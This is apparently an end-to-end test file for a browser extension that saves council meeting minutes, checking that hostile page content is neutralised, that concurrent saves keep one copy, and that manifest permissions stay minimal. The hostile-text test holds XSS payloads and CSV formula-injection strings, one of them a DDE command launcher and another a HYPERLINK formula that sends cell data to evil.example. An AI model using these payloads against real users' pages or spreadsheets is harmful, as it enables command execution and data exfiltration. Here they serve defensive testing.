import { readFileSync } from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchWithExtension, openWithPanel, type ExtensionBrowser } from './support/browser';
import { SOUTHAMPTON } from './support/councils';
import { EXTENSION_DIR, FIXTURES_DIR } from './support/paths';
import { serveCouncil, type CouncilServer } from './support/server';

const HOSTILE = '/ieListDocuments.aspx?CId=9&MId=666&Ver=4';

let site: CouncilServer;
let browser: ExtensionBrowser;
const dialogs: string[] = [];
beforeAll(async () => {
  site = await serveCouncil({ [HOSTILE]: path.join(FIXTURES_DIR, 'hostile-meeting.html'), ...SOUTHAMPTON.routes });
  browser = await launchWithExtension();
  browser.context.on('page', (page) => page.on('dialog', (dialog) => void dialogs.push(dialog.message()).valueOf()));
});
afterAll(async () => {
  await browser?.close();
  await site?.close();
});

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? null);

describe('hostile page text', () => {
  it('runs nothing in the panel or the library, follows no non-web link, and neutralises CSV formulas', async () => {
    const { page, panel } = await openWithPanel(browser, site.url(HOSTILE));
    await panel.getByRole('status').filter({ hasText: 'Found 1 item.' }).waitFor();
    expect(await panel.locator('.meeting-header h2').textContent()).toBe('Cabinet <img src=x onerror="window.__pwned=1">');
    expect(await panel.locator('main img, main script').count()).toBe(0);
    const hrefs = await panel.locator('main a[href]').evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''));
    expect(hrefs.length).toBeGreaterThan(0);
    expect(hrefs.every((href) => /^https?:\/\//.test(href))).toBe(true);
    await panel.getByRole('button', { name: 'Save meeting (1 items)' }).click();
    await panel.getByText('✓ Meeting saved').waitFor();
    expect(await pwned(panel)).toBeNull();

    const library = await browser.openExtensionPage('library.html');
    await library.getByRole('status').filter({ hasText: '3 clauses match.' }).waitFor();
    expect(await library.locator('table.results img, table.results script').count()).toBe(0);
    const [download] = await Promise.all([library.waitForEvent('download'), library.getByRole('button', { name: 'Export clauses as CSV' }).click()]);
    const rows = Papa.parse<Record<string, string>>(readFileSync((await download.path()) as string, 'utf8').slice(1), { header: true, skipEmptyLines: true }).data;
    expect(rows.map((r) => r.clause_text)).toEqual(["'=cmd|' /C calc'!A0", "'+SUM(1,2) and @SUM(A1) and -1+1", '<a href="javascript:window.__pwned=1">a link</a> that the report be noted.']);
    expect(rows.every((r) => r.item_title === '\'=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(true);
    expect(await pwned(library)).toBeNull();
    expect(dialogs).toEqual([]);
    await Promise.all([page.close(), panel.close(), library.close()]);
  });
});

describe('saving the same meeting from two tabs at once', () => {
  it('keeps one copy', async () => {
    const url = site.url(SOUTHAMPTON.meeting);
    const pages = [await browser.context.newPage(), await browser.context.newPage()];
    for (const p of pages) await p.goto(url);
    const tabs = await browser.worker.evaluate(async (target) => (await chrome.tabs.query({ url: target })).map((t) => t.id ?? -1), url);
    expect(tabs).toHaveLength(2);
    const panels = await Promise.all(tabs.map((id) => browser.openExtensionPage('sidepanel.html', `?tabId=${id}`, { width: 420, height: 900 })));
    for (const panel of panels) await panel.getByRole('button', { name: 'Save meeting (4 items)' }).waitFor();
    await Promise.all(panels.map((panel) => panel.getByRole('button', { name: 'Save meeting (4 items)' }).click()));
    for (const panel of panels) await panel.getByText('✓ Meeting saved').waitFor();
    const counts = await panels[0]?.evaluate(async () => {
      const open = indexedDB.open('council-minutes');
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        open.onsuccess = () => resolve(open.result);
        open.onerror = () => reject(open.error);
      });
      const count = (store: string) =>
        new Promise<number>((resolve) => {
          const request = db.transaction(store).objectStore(store).count();
          request.onsuccess = () => resolve(request.result);
        });
      return { meetings: await count('meetings'), items: await count('items'), clauses: await count('clauses') };
    });
    // Southampton's meeting (4 items, 8 clauses) and the hostile one saved above (1 item, 3 clauses).
    expect(counts).toEqual({ meetings: 2, items: 5, clauses: 11 });
  });
});

declare const chrome: { tabs: { query(q: { url: string }): Promise<{ id?: number }[]> } };

describe('the built manifest', () => {
  it('asks only for what is used, and no host permission up front', () => {
    const production = JSON.parse(readFileSync(path.join(EXTENSION_DIR, '../chrome-mv3/manifest.json'), 'utf8')) as Record<string, unknown>;
    expect((production.permissions as string[]).sort()).toEqual(['scripting', 'sidePanel', 'storage', 'unlimitedStorage']);
    expect(production.host_permissions).toBeUndefined();
    expect(production.optional_host_permissions).toEqual(['*://*/*']);
    const scripts = production.content_scripts as { matches: string[] }[];
    expect(scripts.flatMap((s) => s.matches).every((m) => /^\*:\/\/\*\/\*(ie|mg|Ce)[A-Za-z]+\.aspx\*$/.test(m))).toBe(true);
  });
});
